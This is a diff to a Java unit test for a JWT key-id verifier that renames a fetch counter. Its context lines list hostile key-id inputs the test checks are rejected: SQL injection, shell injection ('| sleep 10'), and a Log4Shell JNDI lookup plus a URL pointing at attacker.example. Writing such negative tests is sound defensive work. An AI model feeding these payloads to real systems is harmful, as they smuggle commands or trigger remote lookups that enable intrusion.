@@ -23,12 +23,12 @@ class KeyIdTest {
       "x' UNION SELECT 'key'; --", "rsa\u0000", "rsa ", "RSA", "", "http://attacker.example/key", "%72sa", "| sleep 10",
       "${jndi:ldap://attacker.example/a}", "rsa\n"})
   void anOddKeyIdIsUnknownAndFetchesNothing(String keyId) {
-    int before = gate.keyFetches.get();
+    int before = gate.keyRequests.get();
     gate.clock.advanceMillis(60_000);
     String compact = Minted.accessToken().header("kid", keyId).claim("iat", Minted.NOW + 60).compact();
     Verification outcome = gate.verifier.verifyEventually(compact).toCompletableFuture().join();
     assertEquals(new Verification.Rejected(Rejection.UNKNOWN_KEY), outcome);
-    assertEquals(before + ("RSA".equals(keyId) ? 1 : 0), gate.keyFetches.get());
+    assertEquals(before + ("RSA".equals(keyId) ? 1 : 0), gate.keyRequests.get());
   }
 
   @Test
